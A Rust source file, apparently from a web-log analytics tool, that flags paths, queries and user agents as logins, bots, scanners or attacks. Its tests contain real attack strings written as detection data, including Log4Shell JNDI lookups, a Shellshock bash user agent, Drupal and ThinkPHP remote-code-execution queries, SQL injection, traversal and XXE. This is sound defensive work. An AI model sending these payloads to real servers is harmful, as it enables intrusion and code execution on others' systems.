//! What the words in a path, a query or a user agent tell.

use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickKind, Span};

use crate::math::hash::Hasher;
use crate::record::event::{flag, folders};
use crate::record::exploits::{COMMANDS, COMMANDS_OF_CLIENTS, DOORS};
use crate::record::lexicon::{
    ASSETS, DECLARED, DECLARED_ADDRESSES, DECLARED_NAMES, FETCHERS, HOSTILE, LOGIN, MISREAD, TOKEN,
    TOOLS,
};
use crate::record::sought::{SCRIPTS, SOUGHT};
use crate::store::cache::Cache;

/// Bytes of one text that are searched for words; a longer one is cut.
const SEARCHED_BYTES_MAX: usize = 4_096;

/// What texts say, by their hash: paths and user agents repeat, searching them for words is dear.
#[derive(Debug, Default)]
pub struct Classes {
    /// Flags, and the program.
    user_agents: Cache<(u32, u32)>,
    /// Flags, the shape, and the folders.
    paths: Cache<(u32, u32, [u64; 2])>,
    queries: Cache<u32>,
    /// Paths that are known to take credentials, whatever their words; the beginnings of paths end in `*`.
    credential_paths: Vec<String>,
}

/// Where in a text a word counts.
#[derive(Debug, Clone, Copy)]
enum Place {
    Anywhere,
    /// No letter or digit is beside it.
    Alone,
    /// No `b` is before it: `login` is part of `bloginfo`.
    NotInBlog,
    /// A name ends with it, and not that of a phone: `Cubot`.
    EndOfName,
    /// It is told as such: what is before it is no letter, and assigns nothing.
    Told,
}

impl Place {
    fn holds(self, text: &[u8], at: Span) -> bool {
        let before = at.start.checked_sub(1).and_then(|before| text.get(before));
        let beside = |byte: Option<&u8>| byte.is_some_and(u8::is_ascii_alphanumeric);
        match self {
            Self::Anywhere => true,
            Self::Alone => !beside(before) && !beside(text.get(at.end)),
            Self::NotInBlog => !before.is_some_and(|byte| byte.eq_ignore_ascii_case(&b'b')),
            Self::EndOfName => {
                let beginning = text.get(..at.start).and_then(<[u8]>::last_chunk::<2>);
                let is_phone = beginning.is_some_and(|two| two.eq_ignore_ascii_case(b"cu"));
                !is_phone && !beside(text.get(at.end))
            }
            Self::Told => {
                before.is_none_or(|byte| matches!(byte, b' ' | b'(' | b';' | b',' | b'+'))
            }
        }
    }
}

/// Words of several meanings, found in one pass over a text.
struct Words {
    /// `None` could only come of a table of words that cannot be compiled, which a test excludes.
    automaton: Option<AhoCorasick>,
    /// The flags of each word, and where it counts.
    meanings: Vec<(u32, Place)>,
}

impl Words {
    fn new(lists: &[(&[&str], u32, Place)]) -> Self {
        let words = lists.iter().flat_map(|(words, ..)| *words);
        let automaton = AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .kind(Some(AhoCorasickKind::DFA))
            .build(words)
            .ok();
        let meanings =
            lists.iter().flat_map(|(words, flags, place)| words.iter().map(|_| (*flags, *place)));
        Self { automaton, meanings: meanings.collect() }
    }

    /// Flags of the words of a text.
    fn flags(&self, text: &[u8]) -> u32 {
        let found = self.automaton.iter().flat_map(|words| words.find_overlapping_iter(text));
        let flags = |found: aho_corasick::Match| {
            let (flags, place) = self.meanings.get(found.pattern().as_usize())?;
            place.holds(text, found.span()).then_some(*flags)
        };
        found.filter_map(flags).fold(0, |all, flags| all | flags)
    }
}

static OF_ADDRESS: LazyLock<Words> = LazyLock::new(|| {
    Words::new(&[
        (LOGIN, flag::AUTH, Place::NotInBlog),
        (TOKEN, flag::TOKEN, Place::Alone),
        (HOSTILE, flag::HOSTILE | flag::TEXT, Place::Anywhere),
        (DOORS, flag::HOSTILE | flag::TEXT, Place::Anywhere),
        (COMMANDS, flag::HOSTILE | flag::TEXT | flag::COMMAND, Place::Anywhere),
        (SOUGHT, flag::SOUGHT, Place::Anywhere),
        (MISREAD, flag::MISREAD, Place::Anywhere),
    ])
});
static OF_AGENT: LazyLock<Words> = LazyLock::new(|| {
    Words::new(&[
        (FETCHERS, flag::FETCHER | flag::DECLARED_BOT, Place::Anywhere),
        (DECLARED, flag::DECLARED_BOT, Place::Anywhere),
        (DECLARED_NAMES, flag::DECLARED_BOT, Place::EndOfName),
        (DECLARED_ADDRESSES, flag::DECLARED_BOT, Place::Told),
        (TOOLS, flag::HOSTILE, Place::Anywhere),
        (COMMANDS_OF_CLIENTS, flag::HOSTILE | flag::COMMAND, Place::Anywhere),
    ])
});

fn searched(text: &str) -> &[u8] {
    let bytes = text.as_bytes();
    bytes.get(..SEARCHED_BYTES_MAX).unwrap_or(bytes)
}

fn flag_if(on: bool, flag: u32) -> u32 {
    if on { flag } else { 0 }
}

impl Classes {
    /// Classes where these paths are known to take credentials; beginnings of paths end in `*`.
    pub fn new(credential_paths: &[String]) -> Self {
        Self { credential_paths: credential_paths.to_vec(), ..Self::default() }
    }

    /// Flags of a user agent, and the hash of its program's name whatever the version; 0 for none, and for browsers.
    pub fn of_user_agent(&mut self, hash: u64, text: &str, hasher: &Hasher) -> (u32, u32) {
        let classify = || {
            let browser = text.contains("Gecko") || text.is_empty();
            let program = || hasher.short(shape(text).as_deref().unwrap_or(text.as_bytes()));
            (of_agent(text), if browser { 0 } else { program() })
        };
        self.user_agents.get_or(hash, classify).0
    }

    /// Flags of a path, of which those about credentials hold for a write only, the hash of its shape, and those of its
    /// [`folders`]; 0 where it has none: a shape is of paths with numbers or keys.
    pub fn of_path(&mut self, hash: u64, text: &str, hasher: &Hasher) -> (u32, u32, [u64; 2]) {
        let named = &self.credential_paths;
        let classify = || {
            let is_named = named.iter().any(|path| is_named_by(path, text));
            let flags = of_address(text)
                | flag_if(is_named, flag::AUTH)
                | flag_if(ends_in(text, ASSETS), flag::ASSET)
                | flag_if(ends_in(text, SCRIPTS), flag::SCRIPT);
            let hash_of = |text: &str| if text.is_empty() { 0 } else { hasher.path(text) };
            let shape = shape(text).map_or(0, |shape| hasher.short(&shape));
            (flags, shape, folders(text).map(hash_of))
        };
        self.paths.get_or(hash, classify).0
    }

    /// Flags of a query; those about credentials hold for a write only.
    pub fn of_query(&mut self, hash: u64, text: &str) -> u32 {
        if hash == 0 {
            return 0;
        }
        // An address in a query is asked for on purpose, and searches are for paths.
        self.queries.get_or(hash, || of_address(text) & !(flag::MISREAD | flag::SOUGHT)).0
    }
}

/// A tool made for attacks names who made it, not who runs it.
fn of_agent(text: &str) -> u32 {
    let flags = OF_AGENT.flags(searched(text));
    if flags & flag::HOSTILE == 0 { flags } else { flags & !flag::DECLARED_BOT }
}

fn of_address(text: &str) -> u32 {
    OF_ADDRESS.flags(searched(text))
}

/// Whether a setting names a path: as a whole, or its beginning where the setting ends in `*`.
fn is_named_by(setting: &str, path: &str) -> bool {
    setting.strip_suffix('*').map_or(setting == path, |beginning| path.starts_with(beginning))
}

/// Letters and digits in a row, digits among them, from which on they are a key and no word.
const KEY_BYTES_MIN: usize = 16;

/// A path with its numbers as `#` and its keys as `*`; `None` where it has neither.
fn shape(path: &str) -> Option<Vec<u8>> {
    if !path.bytes().any(|byte| byte.is_ascii_digit()) {
        return None;
    }
    let mut shape = Vec::with_capacity(path.len());
    for word in
        path.as_bytes().chunk_by(|a, b| a.is_ascii_alphanumeric() == b.is_ascii_alphanumeric())
    {
        if !word.iter().any(u8::is_ascii_digit) {
            shape.extend_from_slice(word);
        } else if word.len() >= KEY_BYTES_MIN {
            shape.push(b'*');
        } else {
            add_numbers(word, &mut shape);
        }
    }
    Some(shape)
}

/// Adds letters and digits in a row, each number as `#`.
fn add_numbers(word: &[u8], shape: &mut Vec<u8>) {
    for part in word.chunk_by(|a, b| a.is_ascii_digit() == b.is_ascii_digit()) {
        match part {
            [digit, ..] if digit.is_ascii_digit() => shape.push(b'#'),
            letters => shape.extend_from_slice(letters),
        }
    }
}

/// Whether a referer begins as none does: with what a logging library or an old shell would run.
pub fn is_command(referer: &str) -> bool {
    // Every other begins with a letter or a dash.
    matches!(referer.as_bytes().first(), Some(b'$' | b'('))
        && COMMANDS_OF_CLIENTS.iter().any(|word| starts_with(referer, word))
}

fn starts_with(text: &str, word: &str) -> bool {
    text.as_bytes()
        .get(..word.len())
        .is_some_and(|beginning| beginning.eq_ignore_ascii_case(word.as_bytes()))
}

/// Whether a path has one of these extensions.
fn ends_in(path: &str, extensions: &[&str]) -> bool {
    let tail = &path.as_bytes()[path.len().saturating_sub(12)..];
    let Some(dot) = tail.iter().rposition(|byte| *byte == b'.') else { return false };
    let extension = &tail[dot + 1..];
    extensions.iter().any(|known| extension.eq_ignore_ascii_case(known.as_bytes()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn address(text: &str) -> u32 {
        of_address(text) | flag_if(ends_in(text, ASSETS), flag::ASSET)
    }

    #[test]
    fn every_table_of_words_compiles() {
        assert!(OF_ADDRESS.automaton.is_some() && OF_AGENT.automaton.is_some());
    }

    #[test]
    fn paths_have_classes() {
        for asset in ["/a/b.CSS", "/x.woff2"] {
            assert_eq!(address(asset), flag::ASSET, "{asset}");
        }
        for login in ["/wp-login.php", "title=Special:UserLogin", "/konto/anmelden", "/Blog/login"]
        {
            assert_eq!(address(login), flag::AUTH, "{login}");
        }
        for token in ["/oauth/token", "/api/v1/auth", "grant=2fa", "/session/new"] {
            assert_eq!(address(token), flag::TOKEN, "{token}");
        }
        for hostile in [
            "id=1%27%20OR%201",
            "/cgi-bin/..%2f..%2fetc",
            "x=%3CScript%3e",
            "/vendor/phpunit/src/Util/PHP/eval-stdin.php",
            "/wls-wsat/CoordinatorPortType",
            "email=autodiscover/autodiscover.json%3f@a.example",
        ] {
            assert_eq!(address(hostile), flag::HOSTILE | flag::TEXT, "{hostile}");
        }
        for command in [
            "q=${jndi:ldap://x}",
            "x=%24%7B%24%7Blower:j%7Dndi",
            "q=user/7&name[%23post_render][]=passthru&name[%23markup]=id",
            "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.x",
            "s=/Index/\\think\\app/invokefunction&vars[0]=phpinfo",
            "filter=exec(java.lang.Runtime.getRuntime(),%27id%27)",
            "/shell;cd%20/tmp;rm%20-rf%20x",
            "-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input",
            "xml=%3C!DOCTYPE%20a%20%5B%3C!ENTITY",
        ] {
            let flags = address(command) & !(flag::AUTH | flag::SOUGHT);
            assert_eq!(flags, flag::HOSTILE | flag::TEXT | flag::COMMAND, "{command}");
        }
        for sought in ["/backup7", "/db.sql", "/wso2.php", "/admin/upload.aspx", "/phpMyAdmin/"] {
            assert_eq!(address(sought), flag::SOUGHT, "{sought}");
        }
        for misread in ["/https:/other.example/a", "/a/http://other.example", "//www.other.example"]
        {
            assert_eq!(address(misread), flag::MISREAD, "{misread}");
        }
        for plain in [
            "http://other.example/",
            "/index.php",
            "/",
            "/releases.tar.gz",
            "",
            "/author/x",
            "/footprint",
            "/maven2/org/springframework/core",
            "/cgi-bin/luci/;stok=8d2f/admin",
            "/video/mp4",
            "q=how+to+select+all+'quoted'+rows",
            "/get_bloginfo",
            "/cart",
            "next=http://localhost:3000/",
            "url=file%3A%2F%2F%2FC%3A%2FUsers%2Fann%2Fpage.html",
        ] {
            assert_eq!(address(plain), 0, "{plain}");
        }
    }

    #[test]
    fn paths_have_shapes() {
        for (path, expected) in [
            ("/works/81234/edit", "/works/#/edit"),
            ("/f/0a1b2c3d4e5f60718293/ü2.txt", "/f/*/ü#.txt"),
            ("/a1b22-3", "/a#b#-#"),
            ("/abcdefghijklmnopqr/1", "/abcdefghijklmnopqr/#"),
        ] {
            assert_eq!(shape(path).as_deref(), Some(expected.as_bytes()), "{path}");
        }
        assert_eq!(shape("/about"), None);
    }

    #[test]
    fn bots_say_so() {
        assert_eq!(
            of_agent("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
            flag::DECLARED_BOT
        );
        assert_eq!(
            of_agent("Mastodon/4.2.1 (http.rb/5.1.1; +https://a.example/)") & flag::FETCHER,
            flag::FETCHER
        );
        assert_eq!(of_agent("sqlmap/1.7#stable (https://sqlmap.org)"), flag::HOSTILE);
        for bot in [
            "Googlebot-Image/1.0",
            "NextGenSearchBot 1 (for information visit http://www.zoominfo.com/About/Bot.aspx)",
            "ClaudeBot",
            "MLBot (www.metadatalabs.com/mlbot)",
            "Mozilla/5.0 (Windows NT 5.1; rv:1.9; PageThing http://pagething.com) Gecko Firefox/3.0",
            "PagesInventory (robot, info@inventory.example)",
        ] {
            assert_eq!(of_agent(bot), flag::DECLARED_BOT, "{bot}");
        }
        for none in [
            "Mozilla/5.0 (Linux; Android 9; CUBOT X18 Plus) Chrome/131.0.0.0 Mobile Safari/537.36",
            "Mozilla/5.0 (Windows NT 10.0) Chrome/108.0.0.0<esi:include src=\"http://a.example/r.png\"/>",
            "Go-http-client/1.1",
            "bottle/0.12",
        ] {
            assert_eq!(of_agent(none), 0, "{none}");
        }
        for tool in
            ["masscan/1.0 (https://github.com/example/masscan)", "WPScan v2.9 (+http://wpscan.org)"]
        {
            assert_eq!(of_agent(tool), flag::HOSTILE, "{tool}");
        }
        for agent in
            ["() { :; }; /bin/bash -c id", "${jndi:dns://x}", "Mozilla/5.0 ${${lower:j}ndi"]
        {
            assert_eq!(
                of_agent(agent) & !flag::DECLARED_BOT,
                flag::HOSTILE | flag::COMMAND,
                "{agent}"
            );
        }
        assert!(is_command("${JNDI:ldap://x}") && is_command("() { :;};"));
        assert!(!is_command("https://a.example/${jndi") && !is_command("-") && !is_command(""));
        assert_eq!(of_agent("python-requests/2.31.0"), 0);
        assert_eq!(
            of_agent("Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/131.0.0.0 Safari/537.36"),
            0
        );
    }
}
